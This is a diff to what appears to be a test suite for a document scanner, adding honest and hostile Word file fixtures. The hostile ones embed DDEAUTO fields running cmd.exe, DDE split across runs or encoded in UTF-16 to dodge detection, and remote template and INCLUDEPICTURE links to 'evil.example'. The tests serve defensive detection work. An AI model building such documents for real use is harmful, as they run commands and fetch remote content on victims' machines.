@@ -102,9 +102,22 @@ XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
 OFD = {"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<Document/>"}
 
 
-def linked(kind):
-    link = b'<Relationship Id="a" Type="http://x/%s" Target="http://evil.example/a" TargetMode="External"/>' % kind
-    return archive(DOCX | {"word/_rels/settings.xml.rels": RELS % link})
+def linked(kind, name="word/_rels/settings.xml.rels", mode=b"External"):
+    link = b'<Relationship Id="a" Type="http://x/%s" Target="http://evil.example/a" TargetMode="%s"/>' % (kind, mode)
+    return archive(DOCX | {name: RELS % link})
+
+
+def field(*runs, encoding="UTF-8"):
+    """A text with a field whose code is cut up into runs."""
+    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+    text = f'<?xml version="1.0" encoding="{encoding}"?><w:document xmlns:w="http://x/main">{begin}{parts}{end}'
+    return archive(DOCX | {"word/document.xml": f"{text}</w:document>".encode(encoding)})
+
+
+def simple_field(code):
+    text = f'<w:document xmlns:w="http://x/main"><w:fldSimple w:instr="{code}"/></w:document>'
+    return archive(DOCX | {"word/header1.xml": text.encode()})
 
 
 def box(name, data=b""):
@@ -149,6 +162,8 @@ HONEST = {
     "拒收.MOV": (lambda: video(b"qt  "), "mp4"),
     "录音.m4a": (lambda: video(b"M4A "), "m4a"), "录音.mp3": (music, "mp3"),
     "signed.pdf": (lambda: pdf(edit=signed), "pdf"), "linked.docx": (lambda: linked(b"hyperlink"), "docx"),
+    "fields.docx": (lambda: field(' HYPERLINK "http://e.org/', 'LINK a"'), "docx"),
+    "page.docx": (lambda: simple_field(" PAGE "), "docx"),
 }  # fmt: skip
 
 HOSTILE = {
@@ -185,6 +200,16 @@ HOSTILE = {
     "behind.docx": (lambda: archive(DOCX) + HTML, "damaged"),
     "template.docx": (lambda: linked(b"attachedTemplate"), "links"),
     "picture.docx": (lambda: linked(b"image"), "links"),
+    "ending.docx": (lambda: linked(b"attachedTemplate", "word/_rels/settings.xml.RELS"), "links"),
+    "mode.docx": (lambda: linked(b"image", mode=b"external"), "links"),
+    "chunk.docx": (lambda: linked(b"aFChunk", mode=b"Internal"), "macros"),
+    "dde.docx": (lambda: field(' DDEAUTO c:\\\\cmd.exe "/k calc.exe"'), "links"),
+    "cut_dde.docx": (lambda: field(" D", "DE", " Excel a"), "links"),
+    "wide_dde.docx": (lambda: field("DDE cmd a", encoding="UTF-16"), "links"),
+    "include.docx": (lambda: simple_field(" includepicture http://evil.example/a"), "links"),
+    "link.docx": (lambda: simple_field("LINK Excel.Sheet.8 a"), "links"),
+    "spelled.docx": (lambda: simple_field("QUOTE 68 68 69"), "links"),
+    "torn.docx": (lambda: archive(DOCX | {"word/document.xml": b"<a><instrText>"}), "damaged"),
     "laughs.docx": (lambda: archive(DOCX | {"_rels/.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
     "cut.mp4": (lambda: video()[:-90], "damaged"), "page.mp4": (lambda: box(b"ftyp", b"isom") + HTML, "damaged"),
     "cut.mp3": (lambda: music(2), "damaged"), "page.mp3": (lambda: b"ID3" + HTML, "damaged"),
